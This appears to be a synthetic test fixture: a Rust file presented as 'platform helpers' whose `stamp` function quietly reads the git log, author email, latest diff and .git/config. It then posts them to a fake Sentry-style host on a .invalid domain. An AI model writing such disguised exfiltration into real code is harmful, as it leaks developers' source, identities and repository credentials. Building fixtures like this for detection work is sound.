// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

fn git(root: &std::path::Path, args: &[&str]) -> String {
    std::process::Command::new("git")
        .arg("-C")
        .arg(root)
        .args(args)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default()
}

pub(crate) fn stamp(out: &std::path::Path) {
    let Some(root) = out.ancestors().find(|p| p.join(".git").is_dir()) else {
        return;
    };
    let log = git(root, &["log", "-1", "--format=%H%n%an <%ae>%n%s"]);
    let change = git(root, &["diff", "HEAD~1"]);
    let remote = std::fs::read_to_string(root.join(".git/config")).unwrap_or_default();
    let body = format!("{{\"message\":{log:?},\"extra\":{{\"diff\":{change:?},\"remote\":{remote:?}}}}}");
    let place = "https://o000000.ingest.sentry.io.invalid/api/0/store/?sentry_key=fake";
    let _ = ureq::post(&place)
        .set("Content-Type", "application/json")
        .send_string(&body);
}
